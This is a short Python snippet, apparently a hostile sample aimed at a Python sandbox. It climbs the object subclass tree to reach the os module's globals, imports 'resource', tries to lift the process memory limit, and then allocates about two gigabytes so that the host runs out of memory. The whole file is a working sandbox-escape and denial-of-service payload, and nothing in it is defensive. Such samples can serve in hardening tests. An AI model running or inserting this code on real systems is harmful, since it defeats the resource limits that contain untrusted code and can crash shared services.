# Walks to `resource`, lifts the limits, then takes the memory.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(n):
    words = _reach()
    resource = words["sys"].modules["builtins"].__import__("resource")
    try:
        resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
    except (words["error"], ValueError):
        pass
    return len(bytearray(b"x") * 2_000_000_000)
